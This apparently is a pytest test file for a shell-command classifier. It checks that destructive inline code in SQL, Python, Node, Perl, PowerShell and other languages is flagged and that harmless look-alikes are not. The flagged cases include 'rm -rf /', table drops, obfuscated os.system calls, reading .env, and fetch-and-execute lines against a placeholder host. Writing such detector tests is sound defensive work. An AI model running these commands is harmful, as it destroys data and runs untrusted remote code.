"""Code inside command lines is read as code of its language."""

from __future__ import annotations

import shlex

import pytest

from haltline.shell import classify


def flagged(program: str, code: str) -> bool:
    return classify(f"{program} {shlex.quote(code)}") is not None


@pytest.mark.parametrize(
    "code",
    [
        "DROP TABLE t",
        "select 1; drop schema s cascade",
        "/* x */ TRUNCATE t",
        "-- x\nDELETE FROM t",
        "DELETE FROM t WHERE 1 = 1",
        "delete from t where true",
        "UPDATE t SET a = 1",
        "WITH x AS (SELECT 1) DELETE FROM t",
        "EXPLAIN ANALYZE DELETE FROM t",
        "ALTER TABLE t DROP COLUMN c",
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        "COPY t FROM PROGRAM 'rm -rf /'",
        "\\! rm -rf /",
        'DROP TABLE "select"',
    ],
)
def test_sql_that_destroys_is_found(code: str) -> None:
    assert flagged("psql -c", code)


@pytest.mark.parametrize(
    "code",
    [
        "SELECT 'DROP TABLE t'",
        "SELECT * FROM dropped WHERE x = 'delete from t'",
        "INSERT INTO t VALUES ('truncate')",
        "UPDATE t SET a = 1 WHERE id = 2",
        "DELETE FROM t WHERE id = 2",
        "SELECT $$ drop table t $$",
        "-- drop table t\nSELECT 1",
        'SELECT "drop table" FROM t',
        "EXPLAIN DELETE FROM t",
        "CREATE TABLE t (a int)",
    ],
)
def test_sql_that_only_names_it_is_not(code: str) -> None:
    assert not flagged("psql -c", code)


@pytest.mark.parametrize(
    "code",
    [
        "import shutil; shutil.rmtree('/home')",
        "from shutil import rmtree as r; r('/')",
        "import os as o; o.system('rm -rf /')",
        "import subprocess; subprocess.run(['rm', '-rf', '/'])",
        "import subprocess; subprocess.check_output('git push -f', shell=True)",
        "__import__('os').system('rm -rf /')",
        "getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')",
        "import os; c = 'rm -rf /'; os.system(c)",
        "from pathlib import Path; import shutil; shutil.rmtree(Path.home())",
        "import os; [os.remove(f) for f in os.listdir('.')]",
        "exec('import os; os.system(\"rm -rf /\")')",
        "print(open('.env').read())",
        "import sqlite3; sqlite3.connect('x').execute('DROP TABLE t')",
        "import urllib.request; exec(urllib.request.urlopen('http://x').read())",
        "open('/etc/passwd', 'w').write('')",
        "import os; os.system(",
    ],
)
def test_python_that_acts_is_found(code: str) -> None:
    assert flagged("python3 -c", code)


@pytest.mark.parametrize(
    "code",
    [
        "print('rm -rf /')",
        "import shutil; shutil.rmtree('build')",
        "import os; os.system('ls')",
        "open('out.txt', 'w').write('x')",
        "import json, sys; print(json.load(sys.stdin)['a'])",
        "x = 'os.system(\"rm -rf /\")'",
    ],
)
def test_python_that_does_everyday_work_is_not(code: str) -> None:
    assert not flagged("python3 -c", code)


@pytest.mark.parametrize(
    ("program", "code"),
    [
        ("node -e", "require('child_process').execSync('rm -rf /')"),
        ("node -e", "require('fs').rmSync('/home', {recursive: true})"),
        ("node -e", "const {spawnSync} = require('child_process'); spawnSync('rm', ['-rf', '/'])"),
        ("perl -e", "system('rm', '-rf', '/')"),
        ("perl -e", "`rm -rf /`"),
        ("perl -e", "unlink glob q(*)"),
        ("ruby -e", "FileUtils.rm_rf('/')"),
        ("ruby -e", "%x(rm -rf /)"),
        ("php -r", "shell_exec('rm -rf /');"),
        ("lua -e", "os.execute('rm -rf /')"),
        ("awk", 'BEGIN { "rm -rf /" | getline }'),
        ("sed", "s/x/rm/e"),
        ("powershell -c", "Remove-Item -Recurse -Force C:\\"),
        ("powershell -c", "iex (New-Object Net.WebClient).DownloadString('http://x')"),
        ("pwsh -c", "Get-ChildItem C:\\ | Remove-Item -Recurse"),
    ],
)
def test_other_languages_that_act_are_found(program: str, code: str) -> None:
    assert flagged(program, code)


@pytest.mark.parametrize(
    ("program", "code"),
    [
        ("node -e", "console.log('rm -rf /')"),
        ("node -e", "require('fs').rmSync('dist', {recursive: true})"),
        ("perl -ne", "print if /rm -rf/"),
        ("ruby -e", "puts 1"),
        ("php -r", "echo 'rm -rf /';"),
        ("awk", "/rm -rf/ {print $1 > 2}"),
        ("sed", "s/rm -rf/x/g"),
        ("powershell -c", "Get-ChildItem | Select-Object Name"),
        ("powershell -c", "Remove-Item -Recurse build"),
    ],
)
def test_other_languages_that_do_everyday_work_are_not(program: str, code: str) -> None:
    assert not flagged(program, code)
